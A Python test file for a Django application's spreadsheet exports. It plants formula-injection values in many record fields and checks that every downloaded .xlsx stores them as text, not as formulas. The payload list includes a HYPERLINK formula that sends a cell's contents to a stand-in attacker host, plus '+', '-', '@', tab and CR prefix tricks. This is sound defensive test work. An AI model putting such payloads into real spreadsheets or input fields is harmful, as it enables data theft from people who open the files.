"""Every .xlsx the application writes goes through one neutraliser
(core.xlsx.safe_cell): text a user typed that a spreadsheet would run as a
formula (= + - @, and the tab and CR tricks) is written as text.

Hostile values go into every text field an export shows; every export is
downloaded and read back, and no cell may be a formula or start with a
formula character.
"""

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from core.xlsx import FORMULA_PREFIXES
from funds.models import TransactionKind
from funds.services import account_open, external_account, ledger_post
from stats.run import compute_stats
from surveys.batches import survey_batch_open, survey_batch_process
from tests.helpers.funds import file_project, open_accounts
from tests.helpers.records import make_activity
from tests.helpers.survey_files import survey_row, write_xlsx
from tests.test_access_matrix import all_routes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]

# Every URL that answers with an .xlsx file, by name; the guard below keeps the list whole.
EXPORTS = {
    "members:export",
    "members:import_template",
    "orgs:survey_template",
    "orgs:survey_ledger_export",
    "orgs:survey_batch_report",
    "orgs:dashboard_export",
    "funds:account_statement_xlsx",
    "funds:supervision_xlsx",
    "security:audit_export",
    "orgs:enterprise_export",
    "orgs:organization_export",
    "orgs:stats_drilldown_export",
    "activities:export",
    "orgs:venue_check_export",
    "orgs:warning_export",
    "orgs:user_export",
    "venues:figures_export",
    "people:worker_export",
    "people:training_export",
    "dues:summary_export",
    "dues:template",
    # A large export's file, written by its job (tests/exports checks its cells).
    "exports:download",
}
# The pages about export jobs, which send no file themselves.
EXPORT_JOB_PAGES = {"exports:list", "exports:job", "exports:progress", "exports:retry"}


def test_every_xlsx_url_is_checked_here():
    names = {
        r.name
        for r in all_routes()
        if not r.is_admin and (r.pattern.endswith(".xlsx") or "export" in r.name or r.name.endswith("template"))
    }
    assert names - EXPORT_JOB_PAGES == EXPORTS


@pytest.fixture
def hostile_world(world, tmp_path):
    world.member_a.name = HOSTILE[0]
    world.member_a.job = HOSTILE[1]
    world.member_a.save()
    enterprise = world.enterprise_a
    enterprise.name, enterprise.address, enterprise.owner_name = HOSTILE[0], HOSTILE[2], HOSTILE[3]
    enterprise.org_name, enterprise.secretary_name = HOSTILE[4], HOSTILE[5]
    enterprise.save()
    world.org_a.name, world.org_a.secretary_name = HOSTILE[1], HOSTILE[6]
    world.org_a.save()
    world.secretary_a.display_name = HOSTILE[5]
    world.secretary_a.save(update_fields=["display_name"])
    make_activity(world.org_a, 1, topic=HOSTILE[2])
    account = open_accounts(world)
    ledger_post(
        kind=TransactionKind.ENTERPRISE_DEPOSIT,
        occurred_on=date(2026, 3, 1),
        memo=HOSTILE[0],
        legs=[(external_account("external_source"), -Decimal("10.00")), (account, Decimal("10.00"))],
        by=world.district,
    )
    app = file_project(world, "100.00")
    app.activity = HOSTILE[3]
    app.save(update_fields=["activity"])
    account_open(organization=world.org_b, by=world.district, opened_on=date(2026, 1, 1))
    compute_stats(on=timezone.localdate())
    rows = [survey_row(1, "甲街道", **{"企业名称": HOSTILE[0], "统一社会信用代码": "=1+1"})]
    path = write_xlsx(tmp_path / "s.xlsx", rows)
    batch = survey_batch_open(
        upload=SimpleUploadedFile("s.xlsx", path.read_bytes()), year=2026, by=world.district, street=None
    )
    survey_batch_process(batch=batch, commit=False)
    batch.refresh_from_db()
    from people.models import PartyWorker, Training, TrainingAttendance

    worker = PartyWorker.objects.create(
        name=HOSTILE[0], source="hired", employment="part_time", region=world.street_a, note=HOSTILE[1]
    )
    training = Training.objects.create(
        title=HOSTILE[2],
        level="street",
        starts_on=date(2026, 1, 5),
        ends_on=date(2026, 1, 5),
        hours=4,
        organizer=HOSTILE[3],
        region=world.street_a,
    )
    TrainingAttendance.objects.create(training=training, worker=worker)
    return {"account": account, "batch": batch, "training": training}


def _urls(world, hostile_world) -> list[str]:
    today = timezone.localdate()
    dashboard = [
        reverse("orgs:dashboard_export", args=[table])
        for table in ("kpis", "rows", "stars", "alerts", "organizations", "should_form", "trend")
    ]
    return [
        reverse("members:export") + "?status=",
        reverse("members:import_template"),
        reverse("orgs:survey_template"),
        reverse("orgs:survey_ledger_export"),
        reverse("orgs:survey_batch_report", args=[hostile_world["batch"].pk]),
        *dashboard,
        reverse("funds:account_statement_xlsx", args=[hostile_world["account"].pk]) + "?start=2026-01-01",
        reverse("funds:supervision_xlsx")
        + f"?street={world.street_a.pk}&year={today.year}&half={1 if today.month <= 6 else 2}",
        reverse("security:audit_export"),
        reverse("orgs:enterprise_export"),
        reverse("orgs:organization_export"),
        reverse("orgs:stats_drilldown_export", args=["enterprises"]) + f"?date={today.isoformat()}",
        reverse("activities:export"),
        reverse("orgs:venue_check_export"),
        reverse("orgs:warning_export"),
        reverse("orgs:user_export"),
        reverse("venues:figures_export"),
        reverse("people:worker_export"),
        reverse("people:training_export", args=[hostile_world["training"].pk]),
        reverse("dues:summary_export"),
        reverse("dues:template"),
    ]


def test_no_export_carries_a_formula(world, hostile_world, client):
    client.force_login(world.district)
    seen_hostile = 0
    for url in _urls(world, hostile_world):
        response = client.get(url)
        assert response.status_code == 200, url
        book = openpyxl.load_workbook(io.BytesIO(b"".join(response)), data_only=False)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{url}: formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_PREFIXES), (
                            f"{url}: {sheet.title}!{cell.coordinate} starts like a formula: {cell.value!r}"
                        )
                        seen_hostile += any(h in cell.value for h in HOSTILE)
    # The hostile values did reach the exports (as text), so the check above is not vacuous.
    assert seen_hostile >= 8
